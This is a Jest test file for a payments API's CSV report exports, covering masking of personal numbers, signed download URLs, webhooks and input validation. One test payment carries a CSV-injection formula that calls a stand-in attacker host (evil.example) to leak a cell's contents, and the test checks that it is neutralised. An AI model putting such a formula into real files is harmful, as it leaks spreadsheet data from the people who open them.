/**
 * Report runs through the real local server with real tokens (docs/reconciliation.md, "Reports"): a
 * payments, a movements and a refunds report complete, and their CSV, read back by csv-parse, holds
 * the rows GET /v1/payments, GET /v1/accounts/{id}/movements and GET /v1/refunds list for the same
 * filters, value for value; the download URL needs no token and names the file under its client's folder
 * (reports/<client>/<id>.csv), and a tampered or expired one is 403; another client's report is 404;
 * a period over 366 days is 400; `report.ready` reaches a webhook, signed. A payments report masks the
 * other side's document and account numbers unless asked, by a token with breb/payments.read
 * (docs/privacy.md). `format: "excel_es"` writes the file as Excel opens it in Spanish.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import { parse } from 'csv-parse/sync';
import { localReportFiles } from '../../shared/data/local-report-files';
import { walkAll } from '../support/accounts';
import { startTestApi, type TestApi } from '../support/local-api';
import { merchantWithKey, resolvedKey } from '../support/merchants';
import { expectProblem } from '../support/problems';
import { expectedRow, finishedReport, lastFour, parseCsv, PERSONAL_COLUMNS } from '../support/reports';
import { answeredPayment, answeredRefund, TEST_SETTLEMENT_DELAY_MS } from '../support/settlement';
import { WebhookReceiver } from '../support/webhook-receiver';

/** Ana María Gómez Pérez's PHONE key at Banco Ejemplo (the sandbox directory). */
const ANA_PHONE = { key_type: 'PHONE', key_value: '3001234567' };
const DAY_MS = 24 * 60 * 60 * 1000;
const day = (offsetDays: number): string => new Date(Date.now() + offsetDays * DAY_MS).toISOString().slice(0, 10);

let api: TestApi;
let receiver: WebhookReceiver;
let tokenA: string;
let tokenB: string;

beforeAll(async () => {
  [api, receiver] = await Promise.all([
    startTestApi({ sandboxSettlementDelayMs: TEST_SETTLEMENT_DELAY_MS }),
    WebhookReceiver.start(),
  ]);
  tokenA = await api.token('sandbox-client-a');
  tokenB = await api.token('sandbox-client-b');
});
afterAll(async () => {
  await api?.stop();
  await receiver?.stop();
});

/** A merchant with settled, rejected and received payments (one whose description needs CSV quoting). */
async function merchantWithPayments() {
  const merchant = await merchantWithKey(api, tokenA, { availableBalance: '900.00' });
  const pay = async (value: string, description?: string) => {
    const paid = await api.request('POST', '/v1/payments', {
      token: tokenA,
      body: {
        customer_id: merchant.customerId,
        account_id: merchant.accountId,
        resolution_id: await resolvedKey(api, tokenA, merchant.customerId, ANA_PHONE),
        amount: { value, currency: 'COP' },
        ...(description ? { description } : {}),
      },
    });
    expect(paid.status).toBe(200);
    await answeredPayment(api, tokenA, paid.body.id);
  };
  await pay('120.50', 'Factura "A-1", línea 1\nlínea 2');
  // A payer's text that a spreadsheet would run as a formula (OWASP's CSV injection).
  await pay('130.00', '=HYPERLINK("https://evil.example/?d="&A1,"Ver factura")');
  // .99: the sandbox network rejects it.
  await pay('10.99');
  const received = await api.request('POST', '/sandbox/payments/inbound', {
    token: tokenA,
    body: { key: merchant.key, amount: { value: '75.25', currency: 'COP' } },
  });
  expect(received.status).toBe(200);
  return merchant;
}

async function requestReport(body: Record<string, unknown>, token = tokenA) {
  const answer = await api.request('POST', '/v1/reports', { token, body });
  expect(answer.status).toBe(200);
  return answer.body;
}

async function download(url: string): Promise<Response> {
  return fetch(url);
}

it("a payments report masks people's document and account numbers unless asked, by whom may read payments", async () => {
  const merchant = await merchantWithPayments();
  const filters = { customer_id: merchant.customerId, created_from: day(-1), created_to: day(1) };
  const { items: listed } = await walkAll(api, tokenA, '/v1/payments', 'payments', filters);
  const numbers = (payment: Record<string, any>) => [
    payment['counterparty']['owner']['identification_number'],
    payment['counterparty']['account']?.['account_number'] ?? '',
  ];
  const csvOf = async (body: Record<string, unknown>, token = tokenA) => {
    const asked = await requestReport({ type: 'payments', ...filters, ...body }, token);
    const report = await finishedReport(api, tokenA, asked.id);
    return { asked, ...parseCsv(await (await download(report.body.download_url)).text()) };
  };

  const masked = await csvOf({});
  expect(masked.asked).not.toHaveProperty('reveal');
  expect(masked.rows.map((row) => PERSONAL_COLUMNS.map((name) => row[name]))).toEqual(
    listed.map((payment) => numbers(payment).map((n: string) => (n === '' ? '' : lastFour(n)))),
  );
  expect(masked.rows).toEqual(listed.map((payment) => expectedRow(masked.header, payment)));
  // Ana's whole document number is nowhere in the file.
  expect(JSON.stringify(masked.rows)).not.toContain('1020304050');

  const whole = await csvOf({ reveal: true });
  expect(whole.asked).toMatchObject({ reveal: true });
  expect(whole.rows.map((row) => PERSONAL_COLUMNS.map((name) => row[name]))).toEqual(listed.map(numbers));
  expect(whole.rows).toEqual(listed.map((payment) => expectedRow(whole.header, payment, { reveal: true })));

  // A token that may ask for reports but not read payments gets them masked only.
  const reportsOnly = await api.token('sandbox-client-a', 'breb/reports.write');
  const refused = await api.request('POST', '/v1/reports', {
    token: reportsOnly,
    body: { type: 'payments', ...filters, reveal: true },
  });
  expectProblem(refused, 403, 'INSUFFICIENT_SCOPE');
  expect((await csvOf({}, reportsOnly)).rows).toEqual(masked.rows);
});

it("a payments report holds, row for row, what GET /v1/payments lists; another client's is 404", async () => {
  const merchant = await merchantWithPayments();
  const filters = { customer_id: merchant.customerId, created_from: day(-1), created_to: day(1) };
  const asked = await requestReport({ type: 'payments', ...filters });
  expect(asked).toEqual({
    id: expect.any(String),
    type: 'payments',
    ...filters,
    status: 'PENDING',
    created_at: expect.any(String),
    updated_at: asked.created_at,
  });

  const report = await finishedReport(api, tokenA, asked.id);
  expect(report.body).toMatchObject({ status: 'SUCCEEDED', row_count: 4 });
  expect(Date.parse(report.body.expires_at) - Date.now()).toBeGreaterThan(14 * 60 * 1000);
  expect(Date.parse(report.body.expires_at) - Date.now()).toBeLessThanOrEqual(15 * 60 * 1000);

  const file = await download(report.body.download_url);
  expect(file.status).toBe(200);
  expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="payments-.*\.csv"$/);
  const { header, rows } = parseCsv(await file.text());
  expect(header).toEqual(expect.arrayContaining(['id', 'status', 'amount_value', 'amount_currency', 'description']));

  const { items: listed } = await walkAll(api, tokenA, '/v1/payments', 'payments', filters);
  expect(rows).toHaveLength(listed.length);
  expect(rows).toEqual(listed.map((payment) => expectedRow(header, payment)));
  // Every field the list answers has its column.
  for (const payment of listed)
    for (const name of Object.keys(expectedRow(header, payment))) expect(header).toContain(name);
  expect(rows.find((row) => row['amount_value'] === '120.50')!['description']).toBe('Factura "A-1", línea 1\nlínea 2');
  // The formula reaches the spreadsheet as text: an apostrophe first.
  expect(rows.find((row) => row['amount_value'] === '130.00')!['description']).toBe(
    `'=HYPERLINK("https://evil.example/?d="&A1,"Ver factura")`,
  );

  // Another client: 404 for the report, none of it in its list.
  expectProblem(await api.request('GET', `/v1/reports/${asked.id}`, { token: tokenB }), 404, 'NOT_FOUND');
  const { items: theirs } = await walkAll(api, tokenB, '/v1/reports', 'reports');
  expect(theirs.map((r) => r.id)).not.toContain(asked.id);
  const { items: mine } = await walkAll(api, tokenA, '/v1/reports', 'reports', { created_from: asked.created_at });
  expect(mine.find((r) => r.id === asked.id)).toEqual({
    ...report.body,
    download_url: undefined,
    expires_at: undefined,
  });
});

it("an excel_es payments report opens in Excel in Spanish: BOM, semicolons, decimal commas, Bogotá times, the merchant's name", async () => {
  const merchant = await merchantWithPayments();
  const filters = { customer_id: merchant.customerId, created_from: day(-1), created_to: day(1) };
  const asked = await requestReport({ type: 'payments', ...filters, format: 'excel_es' });
  expect(asked).toMatchObject({ format: 'excel_es' });
  const report = await finishedReport(api, tokenA, asked.id);
  expect(report.body).toMatchObject({ status: 'SUCCEEDED', row_count: 4, format: 'excel_es' });

  const bytes = Buffer.from(await (await download(report.body.download_url)).arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [header, ...lines] = parse(bytes, { bom: true, delimiter: ';' }) as string[][];
  expect(header!.slice(header!.indexOf('customer_id'), header!.indexOf('customer_id') + 2)).toEqual([
    'customer_id',
    'customer_name',
  ]);
  const rows = lines.map((fields) => Object.fromEntries(header!.map((name, i) => [name, fields[i]!])));

  const { items: listed } = await walkAll(api, tokenA, '/v1/payments', 'payments', filters);
  const customer = await api.request('GET', `/v1/customers/${merchant.customerId}`, { token: tokenA });
  // Bogotá keeps UTC-5 all year.
  const bogota = (instant: string) =>
    new Date(Date.parse(instant) - 5 * 60 * 60 * 1000).toISOString().slice(0, 19).replace('T', ' ');
  expect(rows.map((row) => row['id'])).toEqual(listed.map((payment) => payment.id));
  for (const [i, payment] of listed.entries()) {
    expect(rows[i]).toMatchObject({
      customer_id: payment.customer_id,
      customer_name: customer.body.business_name,
      amount_value: payment.amount.value.replace('.', ','),
      amount_currency: 'COP',
      created_at: bogota(payment.created_at),
      // A formula reaches the spreadsheet as text, an apostrophe first, as in the RFC 4180 file.
      description: /^[=+@-]/.test(payment.description ?? '') ? `'${payment.description}` : (payment.description ?? ''),
    });
  }
  expect(rows.map((row) => row['amount_value']).sort()).toEqual(['10,99', '120,50', '130,00', '75,25']);
});

it("a movements report holds what GET /v1/accounts/{id}/movements lists; another client's account is 404", async () => {
  const merchant = await merchantWithPayments();
  const filters = { account_id: merchant.accountId, created_from: day(-1), created_to: day(1) };
  const asked = await requestReport({ type: 'movements', ...filters });
  const report = await finishedReport(api, tokenA, asked.id);
  expect(report.body).toMatchObject({ status: 'SUCCEEDED', row_count: 6 });

  const { header, rows } = parseCsv(await (await download(report.body.download_url)).text());
  expect(header).toEqual(['id', 'kind', 'amount_value', 'amount_currency', 'payment_id', 'refund_id', 'created_at']);
  const { items: listed } = await walkAll(api, tokenA, `/v1/accounts/${merchant.accountId}/movements`, 'movements', {
    created_from: filters.created_from,
    created_to: filters.created_to,
  });
  expect(rows).toEqual(listed.map((movement) => expectedRow(header, movement)));
  // Debits stay numbers (a leading minus is no formula when the field is a number).
  expect(rows.map((row) => row['amount_value'])).toEqual(['900.00', '-120.50', '-130.00', '-10.99', '10.99', '75.25']);

  // Another client's account is 404, as for its movements list.
  const foreign = await api.request('POST', '/v1/reports', { token: tokenB, body: { type: 'movements', ...filters } });
  expectProblem(foreign, 404, 'NOT_FOUND');
});

it("a refunds report holds what GET /v1/refunds lists; another client's report of the customer is empty", async () => {
  const merchant = await merchantWithKey(api, tokenA);
  const received = await api.request('POST', '/sandbox/payments/inbound', {
    token: tokenA,
    body: { key: merchant.key, amount: { value: '80.00', currency: 'COP' } },
  });
  expect(received.status).toBe(200);
  const refund = async (value: string, reason?: string) => {
    const made = await api.request('POST', `/v1/payments/${received.body.id}/refunds`, {
      token: tokenA,
      body: { amount: { value, currency: 'COP' }, ...(reason ? { reason } : {}) },
      headers: { 'Idempotency-Key': `refund-${received.body.id}-${value}` },
    });
    expect(made.status).toBe(200);
    return (await answeredRefund(api, tokenA, made.body.id)).body;
  };
  // .99: the sandbox network rejects it.
  const answered = [await refund('20.00', 'Talla "M", cambiada'), await refund('10.99')];
  expect(answered.map((r) => r.status)).toEqual(['SETTLED', 'REJECTED']);

  const filters = { customer_id: merchant.customerId, created_from: day(-1), created_to: day(1) };
  const asked = await requestReport({ type: 'refunds', ...filters });
  const report = await finishedReport(api, tokenA, asked.id);
  expect(report.body).toMatchObject({ status: 'SUCCEEDED', row_count: 2 });
  const file = await download(report.body.download_url);
  expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="refunds-.*\.csv"$/);
  const { header, rows } = parseCsv(await file.text());
  expect(header).toEqual([
    'id',
    'payment_id',
    'customer_id',
    'account_id',
    'amount_value',
    'amount_currency',
    'reason',
    'status',
    'rejection_reason',
    // A refund's transfer left unanswered too long (docs/network.md, "Review"): empty otherwise.
    'review_since',
    'review_reason',
    'created_at',
    'updated_at',
  ]);
  const { items: listed } = await walkAll(api, tokenA, '/v1/refunds', 'refunds', filters);
  expect(rows).toEqual(listed.map((r) => expectedRow(header, r)));
  expect(rows.map((row) => [row['amount_value'], row['reason'], row['status'], row['rejection_reason']])).toEqual([
    ['20.00', 'Talla "M", cambiada', 'SETTLED', ''],
    ['10.99', '', 'REJECTED', 'NETWORK_REJECTED'],
  ]);

  // Another client naming the customer: its own refunds, none of them.
  const theirs = await api.request('POST', '/v1/reports', { token: tokenB, body: { type: 'refunds', ...filters } });
  expect(theirs.status).toBe(200);
  expect((await finishedReport(api, tokenB, theirs.body.id)).body).toMatchObject({ status: 'SUCCEEDED', row_count: 0 });
});

it('the download URL needs no token; a tampered one and an expired one are 403', async () => {
  const merchant = await merchantWithPayments();
  const asked = await requestReport({
    type: 'payments',
    account_id: merchant.accountId,
    created_from: day(0),
    created_to: day(0),
  });
  const { body } = await finishedReport(api, tokenA, asked.id);
  const url = new URL(body.download_url);
  // The file is kept under its client's folder (the client id, as the token's client_id names it).
  expect(url.pathname).toBe(`/local-files/reports/sandbox-client-a/${asked.id}.csv`);
  expect((await download(url.href)).status).toBe(200);

  const tampered = [
    (u: URL) => u.searchParams.set('expires', String(Number(u.searchParams.get('expires')) + 3600)),
    (u: URL) => u.searchParams.set('filename', 'other.csv'),
    (u: URL) => u.searchParams.set('signature', `${u.searchParams.get('signature')!.slice(0, -2)}AA`),
    (u: URL) => u.searchParams.delete('signature'),
    (u: URL) => (u.pathname = u.pathname.replace(asked.id, merchant.accountId)),
    // The same report's name under another client's folder: not what the API signed.
    (u: URL) => (u.pathname = u.pathname.replace('/sandbox-client-a/', '/sandbox-client-b/')),
  ];
  for (const tamper of tampered) {
    const changed = new URL(url.href);
    tamper(changed);
    const answer = await download(changed.href);
    expect(answer.status).toBe(403);
    expect(answer.headers.get('content-type')).toBe('application/problem+json');
    expect(await answer.json()).toMatchObject({
      code: 'DOWNLOAD_URL_REFUSED',
      detail: expect.stringMatching(/not one the API signed/),
    });
  }

  // A URL the runtime signed for an instant just past: expired, whatever else is right.
  const name = url.pathname.slice('/local-files/'.length);
  const expired = await localReportFiles.downloadUrl(
    name,
    url.searchParams.get('filename')!,
    new Date(Date.now() + 1000).toISOString(),
  );
  expect((await download(expired)).status).toBe(200);
  await sleep(1100);
  const late = await download(expired);
  expect(late.status).toBe(403);
  expect(await late.json()).toMatchObject({ code: 'DOWNLOAD_URL_REFUSED', detail: expect.stringMatching(/expired/) });
});

it('report.ready reaches a subscribed webhook, signed, with the report as GET answers it (its URL apart)', async () => {
  const path = '/reports-ready';
  const hook = await api.request('POST', '/v1/webhooks', {
    token: tokenA,
    body: { url: `${receiver.url}${path}`, events: ['report.ready'] },
  });
  expect(hook.status).toBe(200);
  receiver.secrets.set(path, [hook.body.secret]);
  const merchant = await merchantWithKey(api, tokenA, { availableBalance: '5.00' });
  const asked = await requestReport({
    type: 'movements',
    account_id: merchant.accountId,
    created_from: day(-1),
    created_to: day(0),
  });
  const { body } = await finishedReport(api, tokenA, asked.id);
  await receiver.until(() => receiver.received.some((r) => r.path === path && r.event.data['id'] === asked.id));
  const delivered = receiver.received.find((r) => r.path === path && r.event.data['id'] === asked.id)!;
  expect(delivered.verifiedBy).toEqual([hook.body.secret]);
  expect(delivered.event.type).toBe('report.ready');
  const { download_url: _url, expires_at: _expires, ...withoutUrl } = body;
  expect(delivered.event.data).toEqual(withoutUrl);
});

it('refuses a period over 366 days, a period backwards, and a movements report without its account', async () => {
  const merchant = await merchantWithKey(api, tokenA);
  const ask = (body: Record<string, unknown>) => api.request('POST', '/v1/reports', { token: tokenA, body });
  // 2024 is a leap year: 366 days from its first to its last, and not one more.
  expect((await ask({ type: 'payments', created_from: '2024-01-01', created_to: '2024-12-31' })).status).toBe(200);
  const tooLong = await ask({ type: 'payments', created_from: '2024-01-01', created_to: '2025-01-01' });
  expectProblem(tooLong, 400, 'VALIDATION_FAILED');
  expect(tooLong.body.errors).toEqual([
    { field: 'created_to', message: 'must be at most 366 days after created_from' },
  ]);
  const backwards = await ask({ type: 'payments', created_from: '2025-02-01', created_to: '2025-01-31' });
  expect(backwards.body.errors).toEqual([{ field: 'created_from', message: 'must not be after created_to' }]);
  const noAccount = await ask({ type: 'movements', created_from: '2025-01-01', created_to: '2025-01-31' });
  expect(noAccount.body.errors).toEqual([{ field: 'account_id', message: 'is required for a movements report' }]);
  const customerOfMovements = await ask({
    type: 'movements',
    account_id: merchant.accountId,
    customer_id: merchant.customerId,
    created_from: '2025-01-01',
    created_to: '2025-01-31',
  });
  expect(customerOfMovements.body.errors).toEqual([
    { field: 'customer_id', message: 'is not a filter of a movements report' },
  ]);
  const accountOfRefunds = await ask({
    type: 'refunds',
    account_id: merchant.accountId,
    created_from: '2025-01-01',
    created_to: '2025-01-31',
  });
  expect(accountOfRefunds.body.errors).toEqual([
    { field: 'account_id', message: 'is not a filter of a refunds report' },
  ]);
  expectProblem(
    await ask({ type: 'payments', created_from: '2025-02-30', created_to: '2025-03-01' }),
    400,
    'VALIDATION_FAILED',
  );
});

it('an Idempotency-Key answers the same report again, without a second one', async () => {
  const body = { type: 'payments', created_from: day(-2), created_to: day(-1) };
  const headers = { 'Idempotency-Key': `report-${Date.now()}` };
  const first = await api.request('POST', '/v1/reports', { token: tokenA, body, headers });
  const again = await api.request('POST', '/v1/reports', { token: tokenA, body, headers });
  expect(first.status).toBe(200);
  expect(again.body).toEqual(first.body);
  expect(again.headers.get('idempotent-replayed')).toBe('true');
  const other = await api.request('POST', '/v1/reports', {
    token: tokenA,
    body: { ...body, created_to: day(0) },
    headers,
  });
  expectProblem(other, 409, 'IDEMPOTENCY_KEY_REUSED');
});
